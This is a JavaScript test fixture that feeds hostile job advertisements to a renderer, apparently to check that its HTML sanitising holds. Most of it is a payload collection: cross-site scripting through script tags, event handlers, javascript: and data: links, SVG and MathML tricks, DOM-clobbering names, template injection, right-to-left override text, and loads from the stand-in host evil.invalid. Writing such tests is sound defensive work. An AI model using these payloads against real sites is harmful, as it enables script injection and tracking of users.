// What an ad must not be able to do, tried in every field that holds text from outside.

import { advertisement } from './advertisements.mjs';

/** A host that no request may ever reach. */
const EVIL = 'https://evil.invalid';
const RUN = 'window.__pwned=1;alert(1)';
const CODE = '(function(){window.__pwned=1;alert(1)})()';

/** Text that each body ends with: what is around the attack must stay readable. */
export const READABLE = 'Denne sætning skal kunne læses.';
const after = `<p>${READABLE}</p>`;

const BASE64_SCRIPT = Buffer.from(`<script>${RUN}</script>`).toString('base64');
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>svg</text></a><animate onbegin="${RUN}" attributeName="x"/><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`;

const LONG_WORD = 'Donaudampfskibsfartselskabskaptajnsenkepensionsudbetalingskontor'.repeat(12);

const BODIES = {
  'script tags': `<script>${RUN}</script><SCRIPT SRC="${EVIL}/x.js"></SCRIPT><scr<script>ipt>${RUN}</script>`,
  'event handlers': [
    `<img src="x" onerror="${RUN}">`,
    `<p onclick="${RUN}" onmouseover="${RUN}" onpointerenter="${RUN}" onanimationstart="${RUN}" tabindex="1" autofocus onfocus="${RUN}">Peg her</p>`,
    `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
    `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio><body onload="${RUN}">`,
    `<input autofocus onfocus="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
  ].join(''),
  'links that run code': [
    `<a href="javascript:${CODE}">Klik 1</a>`,
    `<a href=" &#106;ava&#x0A;script:${CODE}">Klik 2</a>`,
    `<a href="JaVaScRiPt:${CODE}">Klik 3</a>`,
    `<a href="vbscript:x">Klik 4</a>`,
    `<a href="data:text/html;base64,${BASE64_SCRIPT}">Klik 5</a>`,
    `<a href="//evil.invalid/x">Klik 6</a>`,
    `<a href="https://example.com/ansoeg" target="_self" rel="opener" ping="${EVIL}/ping">Ansøg her</a>`,
    `<map name="m"><area shape="rect" href="javascript:${CODE}"></map><img usemap="#m">`,
  ].join(' '),
  'svg, math and data': `${SVG}<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math><img src="data:image/svg+xml;base64,${Buffer.from(SVG).toString('base64')}"><object data="data:text/html;base64,${BASE64_SCRIPT}"></object><embed src="${EVIL}/x.swf">`,
  'frames, forms and the head': [
    `<iframe src="${EVIL}/x"></iframe><iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
    `<form action="${EVIL}/x" method="post"><input name="navn"><button formaction="javascript:${CODE}">Send</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
    `<base href="${EVIL}/"><link rel="stylesheet" href="${EVIL}/x.css"><link rel="prefetch" href="${EVIL}/p">`,
    `<style>@import url(${EVIL}/x.css); .top-bar, .decision { display: none !important } body { background: url(${EVIL}/b) }</style>`,
    `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
  ].join(''),
  'pictures and styles from elsewhere': `<img src="${EVIL}/pixel.gif" width="1" srcset="${EVIL}/2x 2x"><p style="position:fixed;inset:0;background:url(${EVIL}/b);z-index:99999">Ligger over alt</p><table background="${EVIL}/t"><tr><td>celle</td></tr></table>`,
  'names that shadow the page’s own': `<a id="content" name="DOMPurify" class="decision" href="#x">anker</a><img name="getElementById"><form id="documentElement"><input name="attributes"><input name="parentNode"></form><p id="email" slot="x" role="alert" aria-hidden="true" data-x="1" contenteditable="true" hidden>skygge</p>`,
  'words without end': `<p>${LONG_WORD}</p><pre>${LONG_WORD}</pre><h1>${LONG_WORD}</h1><ul><li>${LONG_WORD}</li></ul><a href="https://example.com/${LONG_WORD}">${LONG_WORD}</a><table><tr><td>${LONG_WORD}</td><td>${LONG_WORD}</td></tr></table>`,
  'right to left': `<p dir="rtl">مرحبا بالعالم – שלום עולם</p><p>Løn \u202Eenork 000.01\u202C om måneden \u2066isoleret\u2069 \u200F</p><p>\u202E uden ende</p><bdo dir="rtl">baglæns</bdo>`,
  'broken markup': `</div></article></main></section><p>Ude <b><i>fejl</b></i> <!-- <p><p> --><![CDATA[ <script>${RUN}</script> ]]><div><div><p>`,
  'nesting without end': `${'<blockquote>'.repeat(60)}dybt${'</blockquote>'.repeat(60)}${'<ul><li>'.repeat(60)}dybt${'</li></ul>'.repeat(60)}`,
};

const hostileText = `"><img src=x onerror=${RUN}><script>${RUN}</script>{{7*7}}`;

/** One ad for each attack on the body, then those on the other fields. */
export const HOSTILE = [
  ...Object.entries(BODIES).map(([name, body]) => ({ name, body: body + after })),
  { name: 'markup in the title', title: `Kok <b onclick="${RUN}">m/k</b> <script>${RUN}</script>&lt;3` },
  { name: 'a title without end', title: LONG_WORD },
  {
    name: 'a title and a company that run backwards',
    title: 'Løn \u202E.rk 000.01 – גננת',
    employer: { cvrNumber: '24256790', name: 'Firma \u202E SpA', hasCompanyLogo: false },
  },
  {
    name: 'markup in every other field',
    employer: { cvrNumber: '<u>1</u>', pNumber: hostileText, name: hostileText, hasCompanyLogo: true },
    logoUrl: `${EVIL}/logo.png`,
    hasLogo: true,
    user: hostileText,
    application: {
      isApplicationDeadlineASAP: false,
      availablePositions: 2147483647,
      contactPersons: [{ firstNames: hostileText, lastName: LONG_WORD, phoneNumber: `javascript:${CODE}` }],
      url: `javascript:${CODE}`,
      urlText: hostileText,
    },
    job: {
      type: hostileText,
      address: {
        streetName: LONG_WORD,
        city: hostileText,
        postalCode: hostileText,
        countryCode: 'XX',
        countryName: LONG_WORD,
      },
      conceptUriDa: `javascript:${CODE}`,
      preferredLabelDa: hostileText,
      driversLicenses: [hostileText, LONG_WORD],
      classifications: [hostileText],
      shifts: [LONG_WORD],
    },
  },
].map(({ name, ...more }, index) => ({ name, ad: advertisement(index + 1, { body: after, ...more }) }));
